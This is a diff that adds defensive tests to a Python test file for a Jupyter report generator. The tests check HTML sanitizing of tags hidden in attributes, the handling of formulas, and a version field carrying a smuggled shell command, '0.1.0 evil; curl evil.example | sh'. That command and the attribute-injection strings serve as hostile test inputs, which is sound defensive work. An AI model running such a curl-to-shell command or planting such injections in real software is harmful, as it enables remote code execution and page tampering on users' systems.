@@ -22,6 +22,7 @@ from exploracoder_jupyter.events import (
     SolutionTested,
 )
 from exploracoder_jupyter.report.forms import exported
+from exploracoder_jupyter.report.tags import subordinate, wide
 from exploracoder_jupyter.types import (
     InputRun,
     InventedInput,
@@ -228,6 +229,26 @@ def test_nothing_is_fetched_and_nothing_acts():
     assert [link["href"] for link in made.all("a") if not link["href"].startswith(("#", "https://"))] == []
     [policy] = [meta["content"] for meta in made.all("meta") if "http-equiv" in meta]
     assert policy.split("; ")[:3] == ["default-src 'none'", "img-src data:", "style-src 'unsafe-inline'"]
+
+
+def test_what_looks_like_a_tag_in_an_attribute_is_left_alone():
+    """Not all versions of the sanitizer escape `<` there."""
+    for name in ("img src=x", "h1", "main", "table"):
+        hostile = f'<p title="<{name}><meta http-equiv=refresh></table></h1>">a</p>'
+        assert subordinate(hostile) == wide(hostile) == hostile
+    assert subordinate('<h2 title="<h1>">a</h2>') == '<div title="<h1>"><strong>a</strong></div>'
+    assert subordinate('<img src="data:," title="alt=">').startswith('<img alt="Picture" ')
+
+
+def test_nobody_is_told_to_install_anything_else():
+    begun = replace(started(), version="0.1.0 evil; curl evil.example | sh")
+    made = words(page(recorded([begun, *complete_events()[1:]])))
+    assert "pip install exploracoder-jupyter jupyter explora check" in made
+
+
+def test_the_end_of_a_formula_is_not_looked_for_far_away():
+    near, far = (with_outputs(shown(text_markdown=f"\\({'x' * length}\\)")) for length in (9, 9000))
+    assert "<samp>" in near and "<samp>" not in far
 
 
 def test_a_formula_stays_as_it_is_written():
